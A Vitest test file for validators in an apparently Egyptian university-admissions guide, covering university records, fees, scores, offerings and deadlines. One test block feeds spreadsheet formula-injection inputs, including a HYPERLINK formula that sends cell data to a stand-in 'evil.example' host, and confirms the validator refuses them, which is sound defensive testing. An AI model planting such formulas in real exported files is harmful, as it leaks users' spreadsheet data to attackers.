import { describe, expect, it } from 'vitest';
import {
  GUIDE_MESSAGES,
  isValidDeadline,
  isValidFee,
  isValidScore,
  validateAdmissionDeadline,
  validateAdmissionStatus,
  validateOffering,
  validatePlace,
  validateUniversity,
  validateUniversityCode,
} from './guide';
import { errorsOf, missingOf, valueOf } from './result';
import { admissionFields } from '../rules/catalog';
import { FORMULA_NAME_MESSAGE } from '../rules/csv';
import { OFFERING_SECTIONS, OFFERING_SECTION_MESSAGE } from '../rules/offering-sections';

const fullUniversity = {
  university_code: 'GUC',
  university_Arabic_Name: 'الجامعة الألمانية بالقاهرة',
  type: 'Private',
  Uni_Bio: 'نبذة',
  location: '#',
  first_year: '2025',
  second_year: '2024',
  third_year: '2023',
  fourth_year: '2022',
  fifth_year: '2021',
  website: 'https://guc.edu.eg',
  phone: '16107',
  email: 'info@guc.edu.eg',
  facebook: '#',
  instagram: '#',
  youtube: '#',
  linkedin: '#',
};

describe('validateUniversity', () => {
  // Issue 23/24: the city is described once (resources/university.ts) and read from there.
  it.each([
    ['kept, trimmed', { city: ' القاهرة ' }, 'القاهرة', []],
    ['optional', {}, undefined, []],
    ['left empty', { city: '' }, '', []],
    ['not text', { city: { x: 1 } }, undefined, ['قيمة المدينة يجب أن تكون نصًا']],
    ['too long', { city: 'م'.repeat(101) }, undefined, ['قيمة المدينة أطول من المسموح (100 حرف)']],
  ])('the city: %s', (_name, over, kept, messages) => {
    const r = validateUniversity({ ...fullUniversity, ...over }, 'add', 'private');
    expect(errorsOf(r).map((p) => p.message)).toEqual(messages);
    if (!messages.length) expect(valueOf(r).city).toBe(kept);
  });

  it('accepts a complete record and takes `university` as the code', () => {
    const { university_code, ...rest } = fullUniversity;
    const r = validateUniversity({ ...rest, university: university_code }, 'add', 'private');
    expect(errorsOf(r)).toEqual([]);
    expect(valueOf(r).university_code).toBe('GUC');
  });

  it.each([
    ['add without a bio', { ...fullUniversity, Uni_Bio: '' }, 'add', ['Uni_Bio']],
    [
      'add without social links',
      { ...fullUniversity, facebook: undefined, linkedin: undefined },
      'add',
      ['facebook', 'linkedin'],
    ],
    [
      'edit needs only code, name, type and years',
      {
        university_code: 'GUC',
        university_Arabic_Name: 'x',
        type: 'Private',
        first_year: '1',
        second_year: '2',
        third_year: '3',
        fourth_year: '4',
        fifth_year: '5',
      },
      'edit',
      [],
    ],
    [
      'edit without years',
      { university_code: 'GUC', university_Arabic_Name: 'x', type: 'Private' },
      'edit',
      ['first_year', 'second_year', 'third_year', 'fourth_year', 'fifth_year'],
    ],
  ] as const)('%s', (_name, input, mode, missing) => {
    const r = validateUniversity(input as Record<string, unknown>, mode, 'private');
    expect(missingOf(r)).toEqual(missing);
    if (missing.length) expect(errorsOf(r)[0].message).toBe(GUIDE_MESSAGES.requiredUniversity);
  });

  it.each([
    ['code with a space', { university_code: 'G UC' }, GUIDE_MESSAGES.universityCode],
    ['code in Arabic', { university_code: 'جامعة' }, GUIDE_MESSAGES.universityCode],
    ['section of another category', { type: 'TKH' }, GUIDE_MESSAGES.subtype],
    ['unknown section', { type: 'Nowhere' }, GUIDE_MESSAGES.subtype],
    ['index zero', { index: 0 }, 'الترتيب يجب أن يكون رقمًا صحيحًا موجبًا'],
  ])('refuses %s', (_name, change, message) => {
    const r = validateUniversity({ ...fullUniversity, ...change }, 'add', 'private');
    expect(errorsOf(r).map((p) => p.message)).toContain(message);
  });

  it.each([
    ['an uploaded logo id', { logo: 5 }, 5, []],
    ['the id as digits', { logo: '5' }, 5, []],
    ['null clears the logo', { logo: null }, null, []],
    ['no logo leaves it alone', {}, undefined, []],
    ['a path is not an id', { logo: '/uploads/x.png' }, undefined, ['معرّف الشعار غير صالح']],
  ])('logo: %s', (_name, change, logo, messages) => {
    const r = validateUniversity({ ...fullUniversity, ...change }, 'add', 'private');
    if (r.ok) expect(valueOf(r).logo).toBe(logo);
    expect(errorsOf(r).map((p) => p.message)).toEqual(messages);
  });

  it('stores an emptied link as "#"', () => {
    expect(valueOf(validateUniversity({ ...fullUniversity, dorms_link: '' }, 'add', 'private')).dorms_link).toBe('#');
  });
});

describe('scores and fees', () => {
  it.each([
    ['-', true],
    ['', true],
    [undefined, true],
    ['0', true],
    ['100', true],
    ['93.5', true],
    ['85', true],
    ['100.5', false],
    ['101', false],
    ['-5', false],
    ['abc', false],
    ['9O', false],
    ['50%', false],
  ])('score %s → %s', (v, ok) => expect(isValidScore(v)).toBe(ok));

  it.each([
    ['185000', true],
    ['185,000', true],
    ['120000 + 5000', true],
    ['120000+5000+300', true],
    ['0', true],
    ['', true],
    ['لم يعلن', false],
    ['abc', false],
    ['+5000', false],
    ['5000 +', false],
  ])('fee %s → %s', (v, ok) => expect(isValidFee(v)).toBe(ok));
});

describe('validateOffering', () => {
  const base = { faculty: 'كلية الطب', faculty_short: 'MED', section: 'science', normal_or_Dual: 'normal' };
  it.each([
    ['a complete offering', base, []],
    ['no faculty', { ...base, faculty: ' ' }, [GUIDE_MESSAGES.requiredFaculty]],
    ['unknown code', { ...base, faculty_short: 'XYZ' }, [GUIDE_MESSAGES.facultyShort]],
    ['bad program type', { ...base, normal_or_Dual: 'both' }, [GUIDE_MESSAGES.normalOrDual]],
    ['the legacy section "other" (issue 24)', { ...base, section: 'other' }, [OFFERING_SECTION_MESSAGE]],
    ['a free-text section', { ...base, section: 'علمي علوم أو علمي رياضة' }, [OFFERING_SECTION_MESSAGE]],
    ['a legacy code', { ...base, section: 'sports' }, [OFFERING_SECTION_MESSAGE]],
    [
      'other with its text',
      { ...base, section: 'other', section_custom: 'رياضيات أو علوم' },
      [OFFERING_SECTION_MESSAGE],
    ],
    ['no section', { ...base, section: '' }, [GUIDE_MESSAGES.requiredFaculty]],
    ['bad score', { ...base, thanwyaa_firstYear_score: '120' }, [GUIDE_MESSAGES.score]],
    ['bad fee', { ...base, feesNatives2: 'غالي' }, [GUIDE_MESSAGES.fee]],
  ])('%s', (_n, input, messages) => {
    expect(errorsOf(validateOffering(input)).map((p) => p.message)).toEqual(messages);
  });

  it.each(OFFERING_SECTIONS)('takes the section %s', (section) => {
    expect(valueOf(validateOffering({ ...base, section })).section).toBe(section);
  });

  it('refuses a section outside the list beside the field, naming the choices', () => {
    expect(errorsOf(validateOffering({ ...base, section: 'other' }))).toEqual([
      { path: ['section'], message: OFFERING_SECTION_MESSAGE },
    ]);
    expect(OFFERING_SECTION_MESSAGE).toContain('علمي علوم');
  });

  it('joins program lists with the Arabic comma', () => {
    const r = validateOffering({ ...base, programs: ['الطب', ' الجراحة '] });
    expect(valueOf(r).programs).toBe('الطب، الجراحة');
  });
});

describe('names that a spreadsheet would run (issue 20)', () => {
  const offering = { faculty: 'كلية الطب', faculty_short: 'MED', section: 'science', normal_or_Dual: 'normal' };
  it.each([
    ['university_Arabic_Name', '=HYPERLINK("http://evil.example/?d="&A2,"x")'],
    ['university_Arabic_Name', '@SUM(1,2)'],
  ])('a university whose %s is %j is refused', (field, name) => {
    expect(errorsOf(validateUniversity({ ...fullUniversity, [field]: name }, 'add', 'private'))).toEqual([
      { path: [field], message: FORMULA_NAME_MESSAGE },
    ]);
  });
  it.each([
    ['faculty', '=HYPERLINK("http://evil.example/?d="&A2,"x")'],
    ['faculty', '+كلية'],
  ])('an offering whose %s is %j is refused', (field, name) => {
    const input = { ...offering, [field]: name };
    expect(errorsOf(validateOffering(input))).toEqual([{ path: [field], message: FORMULA_NAME_MESSAGE }]);
  });
  it.each(['dorm', 'transport'] as const)('a %s whose type starts with @ is refused', (kind) => {
    expect(errorsOf(validatePlace({ type: '@x', price: '100' }, kind))).toEqual([
      { path: ['type'], message: FORMULA_NAME_MESSAGE },
    ]);
  });
  it('a name with a dash inside is kept', () => {
    expect(errorsOf(validateOffering({ ...offering, faculty: 'كلية الطب - جامعة القاهرة' }))).toEqual([]);
  });
});

describe('validatePlace', () => {
  it.each([
    ['dorm', {}, GUIDE_MESSAGES.dormType],
    ['transport', { type: '  ' }, GUIDE_MESSAGES.transportType],
  ] as const)('a %s needs a type', (kind, input, message) => {
    expect(errorsOf(validatePlace(input, kind))[0].message).toBe(message);
  });
  it('keeps "لم يعلن" as a price', () => {
    expect(validatePlace({ type: 'غرفة', price: 'لم يعلن' }, 'dorm')).toMatchObject({
      ok: true,
      value: { price: 'لم يعلن' },
    });
  });
});

describe('admission status and deadline', () => {
  const all = (value: string) => Object.fromEntries(admissionFields('status').map((f) => [f, value]));

  it('accepts the four kinds of value', () => {
    const input = {
      ...all('انتهي'),
      transfer_status: 'متاح (كل الكليات)',
      wafdeen_status: 'اخري',
      wafdeen_status_custom: 'متاح (الطب فقط)',
      azhar_firstYear_status: 'لم يبداء',
      azhar_secondYear_status: 'متاح للبرامج الدولية',
    };
    const r = validateAdmissionStatus(input, 'add');
    expect(errorsOf(r)).toEqual([]);
    expect(valueOf(r).wafdeen_status).toBe('متاح (الطب فقط)');
    expect(valueOf(r).azhar_secondYear_status).toBe('متاح للبرامج الدولية');
  });

  it('requires every field on add, with the field named', () => {
    const { transfer_status, ...rest } = all('انتهي');
    const r = validateAdmissionStatus(rest, 'add');
    expect(missingOf(r)).toEqual(['transfer_status']);
    expect(errorsOf(r)[0].message).toBe('قيمة غير صالحة لحالة transfer_status');
    expect(errorsOf(validateAdmissionStatus({ transfer_status: 'انتهي' }, 'edit'))).toEqual([]);
  });

  it('"other" needs its custom text', () => {
    const r = validateAdmissionStatus({ ...all('انتهي'), transfer_status: 'اخري' }, 'add');
    expect(errorsOf(r)).toEqual([
      { path: ['transfer_status_custom'], message: 'الرجاء إدخال الحالة المخصصة لـ transfer_status' },
    ]);
  });

  it.each([
    ['15/8/2025', true],
    ['1/1/2026', true],
    ['لم يحدد', true],
    ['31/2/2025', false],
    ['2025-08-15', false],
    ['15/13/2025', false],
    ['غدا', false],
  ])('deadline %s → %s', (v, ok) => expect(isValidDeadline(v)).toBe(ok));

  it('a deadline left out on add is "not specified"', () => {
    const r = validateAdmissionDeadline({ transfer_deadline: '15/8/2025' }, 'add');
    expect(valueOf(r).transfer_deadline).toBe('15/8/2025');
    expect(valueOf(r).wafdeen_deadline).toBe('لم يحدد');
    expect(errorsOf(validateAdmissionDeadline({ wafdeen_deadline: '2025/8/15' }, 'edit'))[0].message).toBe(
      'تاريخ غير صالح لـ wafdeen_deadline',
    );
  });

  it.each([
    [undefined, GUIDE_MESSAGES.universityCodeRequired],
    ['', GUIDE_MESSAGES.universityCodeRequired],
    ['AU C', GUIDE_MESSAGES.universityCode],
    ['AUC', null],
  ])('university code %s', (v, message) => {
    expect(validateUniversityCode(v)?.message ?? null).toBe(message);
  });
});
